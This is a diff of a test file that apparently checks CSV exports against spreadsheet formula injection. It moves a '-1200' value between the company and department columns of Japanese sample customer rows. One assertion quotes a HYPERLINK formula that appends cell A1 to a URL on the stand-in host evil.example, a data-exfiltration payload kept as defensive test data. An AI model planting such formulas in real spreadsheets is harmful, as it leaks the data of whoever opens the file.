@@ -12,7 +12,7 @@ import { startTestApp, type Client, type TestApp } from '../../support/app.ts';
 const CSV = formatCsv([
   ['id', '氏名', '会社名', '部署', '役職', '住所', 'メールアドレス', '電話番号'],
   [FORMULA_PAYLOADS.hyperlink, '山田 太郎', FORMULA_PAYLOADS.hyperlink, FORMULA_PAYLOADS.plus, FORMULA_PAYLOADS.minus, FORMULA_PAYLOADS.at, '=1+1@example.com', '+81 90-2345-6781'],
-  ['@M2', '佐藤 花子', '-1200', FORMULA_PAYLOADS.tab, FORMULA_PAYLOADS.cr, FORMULA_PAYLOADS.fullWidth, 'hanako@daicho-shoji.co.jp', '03-1234-5678'],
+  ['@M2', '佐藤 花子', FORMULA_PAYLOADS.tab, '-1200', FORMULA_PAYLOADS.cr, FORMULA_PAYLOADS.fullWidth, 'hanako@daicho-shoji.co.jp', '03-1234-5678'],
 ]);
 const PROFILE = {
   source: 'planted', id_column: 'id',
@@ -76,7 +76,8 @@ for (const engine of ENGINES) {
         // turn it into the number 819023456781).
         assert.equal(yamada[col('電話番号')], "'+819023456781");
         const sato = rows.find((r) => r[col('姓')] === '佐藤')!;
-        assert.equal(sato[col('会社名')], "'-1200", 'a customer text that looks like a negative number stays text');
+        // (In 部署: a company's name is its canonical form, which drops a leading hyphen.)
+        assert.equal(sato[col('部署')], "'-1200", 'a customer text that looks like a negative number stays text');
         // The raw bytes: such a cell is quoted, so the quote and the formula sit inside one field.
         assert.ok(text.includes(`"'=HYPERLINK(""https://evil.example/?""&A1,""詳細はこちら"")"`), text);
       });
